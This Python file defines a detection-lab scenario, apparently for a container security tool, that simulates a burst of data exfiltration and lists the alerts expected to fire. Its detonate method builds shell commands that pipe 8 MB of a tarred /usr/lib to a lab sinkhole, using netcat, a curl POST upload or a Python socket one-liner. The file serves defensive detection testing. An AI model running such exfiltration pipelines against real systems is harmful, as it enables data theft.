"""A container that normally sends little pushes a burst of data to an outside endpoint."""

from __future__ import annotations

from lab import Lab, WorkloadSpec
from scenarios.api import Expectation, Kind, Scenario
from scenarios.variants import Dimension

BURST_BYTES = 8_000_000


class ExfilBurst(Scenario):
    id = "docker.network.exfil-burst"
    title = "Exfiltration burst: several megabytes sent out of the LAN in seconds"
    kind = Kind.ADVERSARY
    techniques = ("T1041", "T1048")
    backends = ("docker",)
    expect = Expectation(fires=("stowaway.analytic.net-volume",), within_s=20, may_fire={
        "stowaway.net.process-egress-not-allowlisted":
            "The attacker in it really streams 8 MB with nc to the sinkhole's port 4444 on the lab internet, outside "
            "the egress allowlist.",
        "stowaway.net.egress-not-allowlisted":
            "The same connection really leaves the container for the sinkhole on the lab internet, seen on the "
            "wire, outside the egress allowlist.",
    })
    twin = "docker.network.backup-transfer"
    tags = ("network", "exfiltration")
    dimensions = (
        Dimension("port", (4444, 443, 8080), doc="the outside endpoint's port: an odd one, or the web ports an "
                  "egress filter would let through"),
        Dimension("tool", ("nc", "curl", "python"), doc="what sends it: netcat's raw stream, an HTTP POST with curl, "
                  "or Python's own socket"),
    )
    description = (
        "Deploys a report-rendering service on the LAN and the lab internet. An attacker in it packs 8 MB "
        "(a tar of /usr/lib, cut to size) and streams it in one go to the sinkhole's port 4444 with netcat. "
        "Variants send it to port 443 or 8080, as an HTTP POST with curl, or from Python's socket. "
        "The scenario checks the sinkhole received all of it from the service's address."
    )

    def detonate(self, lab: Lab) -> None:
        sink = lab.sinkhole.address
        app = lab.deploy(WorkloadSpec(role="reports", networks=("lan", "inet"), labels={"app": "report-render"}))
        port, tool = int(self.variant["port"]), str(self.variant["tool"])
        pack = f"tar -C /usr -cf - lib 2>/dev/null | head -c {BURST_BYTES}"
        send = {
            "nc": f"nc -w 5 -q 2 {sink} {port}",
            "curl": f"curl -s -m 30 -o /dev/null --data-binary @- http://{sink}:{port}/upload",
            "python": f"python3 -c \"import socket, sys; s = socket.create_connection(('{sink}', {port})); "
                      f"s.sendall(sys.stdin.buffer.read()); s.shutdown(socket.SHUT_WR); "
                      f"[None for _ in iter(lambda: s.recv(65536), b'')]\"",
        }[tool]
        lab.plant("destination", f"{sink}:{port}/tcp")  # what a responder's evidence must name
        lab.action(f"stream 8 MB out to the outside endpoint's port {port}")
        lab.exec(app, "sh", "-c", f"{pack} | {send}", timeout=60, check=tool == "nc")
        source = app.addresses["inet"]
        lab.wait_for(lambda: any(r.get("bytes", 0) >= BURST_BYTES for r in lab.sinkhole_records(peer=source)),
                     timeout=15, what="the burst to reach the sinkhole")
